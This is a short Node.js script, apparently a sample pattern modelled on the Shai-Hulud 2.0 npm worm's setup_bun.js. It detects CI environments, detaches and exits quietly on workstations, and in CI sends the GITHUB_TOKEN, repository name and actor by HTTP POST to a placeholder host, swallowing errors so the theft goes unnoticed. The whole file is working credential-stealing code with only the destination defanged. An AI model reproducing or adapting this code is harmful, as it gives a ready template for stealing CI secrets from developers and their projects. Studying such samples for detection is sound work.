// P16 in Node, like Shai-Hulud 2.0's setup_bun.js (2025): in CI (GITHUB_ACTIONS, CI, BUILDKITE…)
// do the work in the foreground so the job waits for it; on a workstation, detach and return.
const http = require('http');
const { spawn } = require('child_process');
const inCI = ['CI', 'GITHUB_ACTIONS', 'BUILDKITE', 'CODEBUILD_BUILD_NUMBER', 'CIRCLE_SHA1', 'PROJECT_ID'].some((v) => process.env[v]);
if (!inCI) {
  spawn(process.execPath, ['-e', 'setTimeout(()=>{},60000)'], { detached: true, stdio: 'ignore' }).unref();
  process.exit(0);
}
const body = JSON.stringify({ repo: process.env.GITHUB_REPOSITORY, token: process.env.GITHUB_TOKEN, actor: process.env.GITHUB_ACTOR });
const req = http.request({ host: 'ci-results.collect.invalid', path: '/gh', method: 'POST', timeout: 3000 }, (res) => res.resume());
req.on('error', () => {});
req.on('timeout', () => req.destroy());
req.end(body);
